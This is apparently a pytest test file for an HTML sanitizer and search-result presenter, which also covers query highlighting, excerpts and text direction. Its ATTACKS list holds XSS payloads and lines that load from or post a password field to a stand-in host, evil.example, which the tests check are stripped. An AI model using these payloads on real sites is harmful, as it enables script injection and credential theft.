"""A document as a person reads it: safe, whole, the query's words marked."""

import random
import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from benchwright.texts.directions import direction_of
from benchwright.texts.excerpts import best_excerpt
from benchwright.texts.presenting import EXCERPT_CHARS, WHOLE_CHARS, Presented, presented
from benchwright.texts.rendering import BLOCKS, INLINE, rendered
from benchwright.texts.words import Match, finder
from tests.examples import examples

FORMATS = ("plain", "markdown", "html")
ATTRIBUTES = {"dir", "colspan", "rowspan", "start", "class"}
VOID = {"br", "hr", "wbr", "col"}


class Seen(HTMLParser):
    """What a browser would see: every tag and attribute, the text, the marks."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []
        self.open: list[str] = []
        self.text, self.marks = "", []
        self.is_balanced = True
        self.feed(html)
        self.close()
        self.is_balanced &= not self.open

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += attrs
        if tag not in VOID:
            self.open.append(tag)
        if tag == "mark":
            self.marks.append("")

    def handle_endtag(self, tag):
        self.is_balanced &= bool(self.open) and self.open.pop() == tag

    def handle_data(self, data):
        self.text += data
        if "mark" in self.open:
            self.marks[-1] += data

    def handle_comment(self, data):
        self.tags.add("comment")

    def handle_decl(self, decl):
        self.tags.add("declaration")


def shown(text: str, query: str = "", text_format: str = "plain", lang: str = "en") -> Presented:
    return presented(query=query, title="", text=text, text_format=text_format, lang=lang)


def marks(text: str, query: str, lang: str = "en", text_format: str = "plain") -> list[str]:
    return Seen(shown(text, query, text_format, lang).full_html).marks


def squeezed(text: str) -> str:
    return re.sub(r"\s+", "", text)


# --- nothing that acts ---------------------------------------------------------------------------

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=x>">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>click</a>",
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=//evil.example><input name=password><button>go</button></form>",
    "<body onload=alert(1)>text",
    "<p style='position:fixed;inset:0' id=judge-screen class=grade-bar>over the page</p>",
    "<style>*{display:none}</style>hidden",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video><audio src=x autoplay>",
    "<div hx-get=/account/ hx-trigger=load>x</div>",
    "<p data-judge data-key=3>x</p>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<x><y onclick=alert(1)>unknown</y>",
    "<p dir='rtl\" onclick=\"alert(1)'>x</p>",
    "<td colspan='1 onclick=alert(1)'>x</td>",
    '[x](javascript:alert(1)) ![x](http://evil.example/pixel.gif "t")',
    '![x]("onerror=alert(1))\n\n<javascript:alert(1)>\n\n[a]: javascript:alert(1)\n[a]',
    "`<script>alert(1)</script>`\n\n    <script>alert(1)</script>\n",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


def assert_harmless(made: Presented) -> None:
    for html in (made.title_html, made.excerpt_html, made.full_html):
        seen = Seen(html)
        assert seen.tags <= BLOCKS | INLINE | {"mark"}
        assert {name for name, _ in seen.attributes} <= ATTRIBUTES
        assert all(re.fullmatch(r"[a-z0-9 -]*", value or "") for _, value in seen.attributes)
        assert seen.is_balanced, html


@pytest.mark.parametrize("text_format", FORMATS)
@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_acts_or_loads_survives(attack, text_format):
    presentation = presented(
        query="alert x", title=attack, text=attack, text_format=text_format, lang="en"
    )

    assert_harmless(presentation)
    assert_harmless(shown(attack + " and so on." * 100, "x alert script", text_format))


@pytest.mark.parametrize("text_format", FORMATS)
@settings(max_examples=examples(150), deadline=None)
@given(
    text=st.lists(st.sampled_from([*ATTACKS, "<", ">", '"', "'", "&", "&amp;", "=", "a", " ", "\n",
        "*", "_", "`", "[", "](", ")", "|", "<p>", "</p>", "<b>", "<!--", "on", "\u202e"])
        | st.text(max_size=8), max_size=12).map("".join),
    query=st.text(max_size=12) | st.sampled_from(["script alert", "a b p", "lt amp", "gt"]),
)  # fmt: skip
def test_nothing_that_acts_survives_whatever_is_put_together(text_format, text, query):
    presentation = presented(query=query, title=text, text=text, text_format=text_format, lang="en")

    assert_harmless(presentation)


def test_a_link_leaves_its_text_and_an_image_its_description():
    html = shown("See [the docs](http://x.example) ![a plan](http://x/y.png).", "", "markdown")

    assert html.full_html == "<p>See the docs a plan.</p>"
    assert shown('<a href="http://x">the docs</a>', "", "html").full_html == "the docs"


@pytest.mark.parametrize(
    ("html", "shown_as"),
    [
        ("<h1>One</h1><h2>Two</h2>", "<h3>One</h3><h4>Two</h4>"),
        ("<h2>Two</h2><h2>Two</h2>", "<h3>Two</h3><h3>Two</h3>"),
        ("<h1>One</h1><h6>Six</h6><h2>Two</h2>", "<h3>One</h3><h4>Six</h4><h4>Two</h4>"),
        ("<h4>Four</h4><h1>One</h1><h2>Two</h2>", "<h3>Four</h3><h3>One</h3><h4>Two</h4>"),
        (
            "".join(f"<h{n}>a</h{n}>" for n in range(1, 7)),
            "".join(f"<h{n}>a</h{n}>" for n in (3, 4, 5, 6, 6, 6)),
        ),
    ],
)
def test_headings_stand_below_those_of_the_page_and_none_is_skipped(html, shown_as):
    assert shown(html, "", "html").full_html == shown_as


def test_headings_of_markdown_do_as_well():
    assert shown("## Two\n\n### Three", "", "markdown").full_html == "<h3>Two</h3><h4>Three</h4>"


def test_tables_lists_and_code_stay():
    html = shown("|a|b|\n|-|-|\n|1|2|\n\n1. x\n\n```\nif a < b:\n    go\n```", "", "markdown")

    assert "<td>1</td>" in html.full_html
    assert "<ol><li>x</li></ol>" in html.full_html
    assert "<pre><code>if a &lt; b:\n    go\n</code></pre>" in html.full_html


def test_markup_in_markdown_is_text():
    assert shown("a <b>c</b>", "", "markdown").full_html == "<p>a &lt;b&gt;c&lt;/b&gt;</p>"


# --- nothing is lost -----------------------------------------------------------------------------

PROSE = st.text(
    alphabet=st.sampled_from("aAbé ñ日本のกข한글שלום.,!?&<>\"'_-0\n\t")
    | st.characters(codec="utf-8"),
    max_size=200,
)


@given(PROSE, st.text(max_size=20))
def test_text_of_a_plain_document_is_kept(text, query):
    wanted = re.sub(r"[\x00-\x08\x0b-\x1f]", "", text)

    assert squeezed(Seen(shown(text, query).full_html).text) == squeezed(wanted)


def test_paragraphs_and_line_breaks_are_kept():
    assert shown("one\r\ntwo\n \n\nthree ").full_html == "<p>one<br>two</p><p>three </p>"


@pytest.mark.parametrize("text_format", ["markdown", "html"])
@given(words=st.lists(st.from_regex(r"[a-w]{1,8}", fullmatch=True), min_size=1, max_size=60))
def test_words_in_markup_are_kept_in_order(text_format, words):
    joints = {
        "markdown": [" ", "\n\n", "\n", " **x** "],
        "html": [" ", "<p>", "<b> x </b>", "<br>"],
    }
    rng = random.Random(len(words))
    text = "".join(word + rng.choice(joints[text_format]) for word in words)

    seen = squeezed(Seen(shown(text, "", text_format).full_html).text)

    assert seen.replace("x", "") == "".join(words)


def long_text(rng: random.Random, n_words: int = 800) -> str:
    words = [f"w{rng.randrange(80)}{rng.choice(['', '', '', '.', '!', chr(10), ', '])}"
             for _ in range(n_words)]  # fmt: skip
    return " ".join(words)


@pytest.mark.parametrize("seed", range(20))
@pytest.mark.parametrize("text_format", FORMATS)
def test_excerpt_is_a_part_of_the_text(seed, text_format):
    rng = random.Random(seed)
    page = shown(long_text(rng), f"w{rng.randrange(80)} w{rng.randrange(80)}", text_format)

    part, whole = (squeezed(Seen(html).text) for html in (page.excerpt_html, page.full_html))
    assert not page.is_whole
    assert part in whole
    assert EXCERPT_CHARS / 4 < len(part) <= EXCERPT_CHARS


def test_a_short_document_is_shown_whole():
    assert shown("x" * WHOLE_CHARS).is_whole
    assert not shown("x" * (WHOLE_CHARS + 1)).is_whole


def test_length_counts_what_is_read():
    assert shown("<p>one</p><script>two</script>", "", "html").n_chars == 3


# --- marks ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("lang", "query", "text", "marked"),
    [
        ("en", "delete directories", "Deleted a directory; undeletable.", ["Deleted", "directory"]),
        ("en-GB", "running", "He runs. It ran.", ["runs"]),
        ("", "Café", "CAFÉ café cafés", ["CAFÉ", "café"]),
        ("xx", "runs", "run runs RUNS", ["runs", "RUNS"]),
        ("de", "Häuser", "Ein Haus, viele Häuser, Hausboot", ["Haus", "Häuser"]),
        ("ru", "книги", "Книга в книгах", ["Книга", "книгах"]),
        ("ar", "كتاب", "هذا كتاب جديد", ["كتاب"]),
        ("hi", "भाषा", "हिन्दी भाषा", ["भाषा"]),
        ("en", "python's shelf", "Python's own, and pythons", ["Python's", "pythons"]),
        ("en", "rmtree", "shutil.rmtree and _rmtree_safe", ["rmtree", "rmtree"]),
        ("en", "how to be", "To be, or how?", ["To", "be", "how"]),
        ("en", "how to fly", "How to fly", ["fly"]),
        ("ja", "東京都の人口", "東京都の人口。京都", ["東京都", "人口", "京都"]),
        ("zh", "机器学习", "我学习机器", ["学习机器"]),
        ("ko", "서울", "서울에서", ["서울"]),
        ("th", "ภาษา", "เรียนภาษาไทย", ["ภาษา"]),
        ("en", "日本", "in 日本 now", ["日本"]),
        ("en", "c++ & <b>", "C++ & <b>", ["C", "b"]),
    ],
)  # fmt: skip
def test_words_of_the_query_are_marked(lang, query, text, marked):
    assert marks(text, query, lang) == marked


def test_counts_go_by_the_words_of_the_query_in_its_order():
    presentation = presented(
        query="delete a Directory, delete trees",
        title="Deleting",
        text="A directory deletes directories.",
        text_format="plain",
        lang="en",
    )

    assert [(term.term, term.count) for term in presentation.terms] == [
        ("delete", 2),
        ("Directory", 2),
        ("trees", 0),
    ]
    assert presentation.title_html == "<mark>Deleting</mark>"


def test_no_tag_or_entity_is_marked():
    assert marks("<p>p amp &amp; &lt;p&gt; <b>b</b>", "p amp lt b", text_format="html") == [
        "p", "amp", "p", "b"
    ]  # fmt: skip


@given(PROSE, PROSE, st.sampled_from(["en", "", "ja", "ar"]))
@example("a" * 3, "aaa", "en")
def test_marks_balance_and_change_no_text(text, query, lang):
    plain, with_marks = shown(text, "", lang=lang), shown(text, query, lang=lang)

    assert Seen(with_marks.full_html).is_balanced
    assert re.sub("</?mark>", "", with_marks.full_html) == plain.full_html


# --- the best part -------------------------------------------------------------------------------


def test_excerpt_holds_the_rare_word_and_not_the_frequent_one():
    filler = "The tree is a tree. " * 160
    page = shown(f"{filler}Here the walrus sleeps. {filler}", "walrus tree")

    assert "<mark>walrus</mark>" in page.excerpt_html
    assert 'class="excerpt goes-on-before goes-on-after"' in page.excerpt_html


def test_excerpt_without_any_word_is_the_beginning():
    page = shown("First sentence. " + "More of it. " * 300, "walrus")

    assert page.excerpt_html.startswith('<div class="excerpt goes-on-after"><p>First sentence.')


def brute_force(sentences: list[str], words: set[str], n_chars: int) -> int:
    """The most different words that consecutive sentences of `n_chars` in all can have."""
    best = 0
    for first in range(len(sentences)):
        for last in range(first, len(sentences)):
            part = "".join(sentences[first : last + 1])
            if len(part) <= n_chars:
                best = max(best, len(words & set(part.replace(".", "").split())))
    return best


@pytest.mark.parametrize("seed", range(30))
def test_no_other_part_has_more_words_of_the_query_where_all_are_alike(seed):
    """Words that come in equally many sentences weigh the same: then most different words win."""
    rng = random.Random(seed)
    words = [f"q{n}" for n in range(4)]
    sentences = ["filler text of a sentence. "] * 40
    for word, place in zip(words, rng.sample(range(40), 4), strict=True):
        sentences[place] = f"here {word} stands. "
    text = "".join(sentences)
    result = finder(" ".join(words), lang="xx", text=text).matches(text)

    span = best_excerpt(text, result, n_chars=300)

    page_text = text[span.start : span.end]
    assert len(page_text) <= 300
    assert sum(word in page_text for word in words) == brute_force(sentences, set(words), 300)


def test_text_without_any_space_is_cut_all_the_same():
    page = shown("あ" * 3000 + "東京" + "い" * 3000, "東京", lang="ja")

    assert "<mark>東京</mark>" in page.excerpt_html
    assert len(Seen(page.excerpt_html).text) <= EXCERPT_CHARS


def test_the_first_of_equal_parts_is_taken():
    text = "".join(f"{'x ' * 95}. " for _ in range(3)) + "walrus. " + "y " * 2000 + "walrus."
    matches = [Match(text.index("walrus"), text.index("walrus") + 6, 0),
               Match(text.rindex("walrus"), text.rindex("walrus") + 6, 0)]  # fmt: skip

    span = best_excerpt(text, matches, n_chars=300)

    assert span.start < text.index("walrus") < span.end


# --- direction -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("lang", "text", "direction"),
    [
        ("en", "plain", "ltr"),
        ("ar", "مرحبا بالعالم", "rtl"),
        ("en", "שלום עולם", "rtl"),
        ("he", "HTTP/2: שלום עולם", "rtl"),
        ("he", "only Latin here", "ltr"),
        ("ar", "", "rtl"),
        ("", "", "ltr"),
        ("fa", "123 456", "rtl"),
        ("az-Arab", "1", "rtl"),
        ("ku-Latn", "1", "ltr"),
        ("ur_PK", "...", "rtl"),
        ("ja", "東京", "ltr"),
        ("en", "He said שלום to all of them", "ltr"),
    ],
)
def test_direction_follows_the_letters_and_then_the_language(lang, text, direction):
    assert direction_of(lang, text) == direction


# --- speed ---------------------------------------------------------------------------------------


def test_a_megabyte_takes_no_more_than_moments():
    """Processor time, about ten times what it takes: a quadratic step would not end at all."""
    rng = random.Random(7)
    words = ["".join(rng.choices("abcdefghij", k=rng.randint(2, 9))) for _ in range(15_000)]
    text = ". ".join(" ".join(rng.choices(words, k=12)) for _ in range(15_000))[:1_000_000]

    began = time.process_time()
    page = shown(text, " ".join(words[:6]))

    assert time.process_time() - began < 1.5
    assert sum(term.count for term in page.terms) > 10


def test_html_is_rendered_the_same_whatever_the_query():
    assert rendered("<p>a</p>", "html") == "<p>a</p>"
